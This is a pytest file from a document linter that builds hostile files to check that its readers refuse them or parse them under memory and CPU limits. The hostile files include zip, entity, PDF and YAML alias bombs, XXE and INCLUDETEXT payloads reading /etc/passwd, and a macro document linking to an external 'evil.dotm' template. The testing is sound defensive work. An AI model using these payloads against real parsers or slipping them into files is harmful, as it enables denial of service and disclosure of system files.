"""Files made to break readers: refused or read in bounded time and memory, each in a process of its own that has limits."""

# ruff: noqa: E501 - rows of tables read best on one line

from __future__ import annotations

import io
import multiprocessing
import resource
import time
import zipfile
import zlib
from typing import TYPE_CHECKING

import pytest

from jdlint import readers
from jdlint.errors import SourceError

if TYPE_CHECKING:
    from collections.abc import Callable

#: Far more than any of these needs here, far less than a hostile file would take (bytes, seconds).
MEMORY = 1_500_000_000
SECONDS = 40
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def zipped(name: str, chunks: list[bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file, file.open(name, "w") as part:
        for chunk in chunks:
            part.write(chunk)
    return buffer.getvalue()


def zip_bomb() -> bytes:
    opening = f"<w:document {WORD}><w:body><w:p><w:r><w:t>".encode()
    return zipped("word/document.xml", [opening, *[b"a" * 1_000_000] * 400, b"</w:t></w:r></w:p></w:body></w:document>"])


def entity_bomb() -> bytes:
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    return zipped(
        "word/document.xml", [f"<!DOCTYPE w [{entities}]><w:document {WORD}><w:body>&e9;</w:body></w:document>".encode()]
    )


def external_entity() -> bytes:
    text = f'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document {WORD}><w:body>&x;</w:body></w:document>'
    return zipped("word/document.xml", [text.encode()])


def deep_xml() -> bytes:
    return zipped("word/document.xml", [b"<a>" * 1_000_000, b"</a>" * 1_000_000])


def many_parts() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        for number in range(6_000):
            file.writestr(f"word/{number}.xml", "")
    return buffer.getvalue()


def pdf(*objects: bytes, trailer: bytes = b"<</Root 1 0 R>>") -> bytes:
    data = b"%PDF-1.4\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    data += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return data + b"trailer\n%s\nstartxref\n%d\n%%%%EOF\n" % (trailer, start)


def pdf_loop() -> bytes:
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1000000/Kids[2 0 R 2 0 R]>>")


def pdf_form_loop() -> bytes:
    form = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 4 0 R>>>>/Length 11>>stream\n/F Do /F Do\nendstream"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</XObject<</F 4 0 R>>>>>>"
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", page, form)


def pdf_bomb() -> bytes:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * 10_000_000) for _ in range(60)) + packer.flush()
    stream = b"<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>"
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", page, stream)


def pdf_encrypted() -> bytes:
    lock = b"<</Filter/Standard/V 1/R 2/P -4/O(12345678901234567890123456789012)/U(12345678901234567890123456789012)>>"
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 0/Kids[]>>",
        lock,
        trailer=b"<</Root 1 0 R/Encrypt 3 0 R/ID[(a)(a)]>>",
    )


def macros() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        file.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 Sub AutoOpen()")
        link = '<Relationship Id="x" Type="attachedTemplate" TargetMode="External" Target="http://192.0.2.1/evil.dotm"/>'
        file.writestr("word/_rels/settings.xml.rels", f"<Relationships>{link}</Relationships>")
        field = "<w:instrText>INCLUDETEXT file:///etc/passwd</w:instrText>"
        file.writestr(
            "word/document.xml", f"<w:document {WORD}><w:body><w:p><w:r>{field}<w:t>Own</w:t></w:r></w:p></w:body></w:document>"
        )
    return buffer.getvalue()


def alias_bomb() -> bytes:
    lines = ["a0: &a0 [you, own, it]"] + [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 40)]
    return "\n".join(lines).encode()


#: File name, content, and what is wrong with it; None where it is read.
CASES: dict[str, tuple[str, Callable[[], bytes], str | None]] = {
    "zip bomb": ("a.docx", zip_bomb, "unpacks to too much"),
    "entity bomb": ("a.docx", entity_bomb, "declares entities, as no word processor does"),
    "external entity": ("a.docx", external_entity, "declares entities, as no word processor does"),
    "deep xml": ("a.docx", deep_xml, "is larger or nested deeper than any posting"),
    "macros and links to outside": ("a.docm", macros, None),
    "many parts": ("a.docx", many_parts, "has 6,000 parts"),
    "pdf that holds itself": ("a.pdf", pdf_loop, "has 1,000,000 pages, more than 60"),
    "pdf form that draws itself": ("a.pdf", pdf_form_loop, "is too much for the PDF library"),
    "pdf bomb": ("a.pdf", pdf_bomb, "is too much for the PDF library"),
    "encrypted pdf": ("a.pdf", pdf_encrypted, "is encrypted"),
    "alias bomb": ("a.yaml", alias_bomb, None),
    "deep yaml": ("a.yaml", lambda: b"[" * 500_000, "is nested too deeply"),
    "deep yaml blocks": ("a.yaml", lambda: b"- " * 50_000 + b"a", "is nested too deeply"),
    "deep json": ("a.json", lambda: b'{"a":' * 10_000 + b"1" + b"}" * 10_000, "is nested too deeply"),
    "deep html": ("a.html", lambda: b"<div><ul><li>" * 10_000 + b"You own it." + b"</li></ul></div>" * 10_000, None),
    "open tags": ("a.html", lambda: b"<a <a '" * 100_000, None),
    "open comments": ("a.html", lambda: b"<!--" * 700_000, None),
    "open templates": ("a.html", lambda: b"{{ {% <% " * 80_000, None),
    "open tables": ("a.html", lambda: b"<table><tr><td>" * 150_000, None),
    "deep rtf": ("a.rtf", lambda: b"{\\rtf1" + b"{" * 1_000_000, "is nested too deeply"),
    "deep list": ("a.md", lambda: b"".join(b" " * (2 * n) + b"- x\n" for n in range(2_000)), None),
    "bullets": ("a.md", lambda: b"- Own it\n" * 100_000, None),
    "one line": ("a.md", lambda: b"Own it and " * 850_000, None),
    "brackets": ("a.md", lambda: b"[" * 1_000_000, None),
    "link starts": ("a.md", lambda: b"[a](b " * 100_000, None),
    "stars": ("a.md", lambda: b"*a _b " * 80_000, None),
    "open tags in Markdown": ("a.md", lambda: b"<a <!-- <script> " * 150_000, None),
    "quotes": ("a.md", lambda: b"> " * 1_000_000, None),
    "bars": ("a.md", lambda: b"| a " * 300_000, None),
    "front matter": ("a.md", lambda: b"---\n" + b"a: b\n" * 100_000, None),
    "underlines": ("a.rst", lambda: b"a\n===\n" * 20_000, None),
    "asciidoc": ("a.adoc", lambda: b"a [[ << link:x[ \n" * 20_000, None),
    "csv quotes": ("a.csv", lambda: b'a,b\n"' + b'""' * 1_000_000, "has a quote that is not closed"),
}


def attempt(path: str, data: bytes, results: multiprocessing.Queue[str]) -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))
    resource.setrlimit(resource.RLIMIT_CPU, (SECONDS, SECONDS))
    try:
        results.put(f"read {len(readers.read(path, data))}")
    except SourceError as fault:
        results.put(fault.what)


@pytest.mark.parametrize(("path", "make", "what"), CASES.values(), ids=CASES)
def test_bounded(path: str, make: Callable[[], bytes], what: str | None) -> None:
    if path.endswith(".pdf"):
        pytest.importorskip("pypdfium2")
    context = multiprocessing.get_context("spawn")
    results: multiprocessing.Queue[str] = context.Queue()
    process = context.Process(target=attempt, args=(path, make(), results))
    process.start()
    process.join(SECONDS * 10)  # by the clock of a busy machine; the processor time is limited in the process
    assert process.exitcode == 0
    assert results.get(timeout=5) == (what or "read 1")


def test_time_grows_with_length_only() -> None:
    def seconds(count: int) -> float:
        start = time.process_time()
        readers.read("a.md", b"- Own *the* [backlog](x) &amp; <b>grow</b> it\n\n" * count)
        return time.process_time() - start

    seconds(100)
    assert seconds(8_000) < 12 * seconds(2_000)
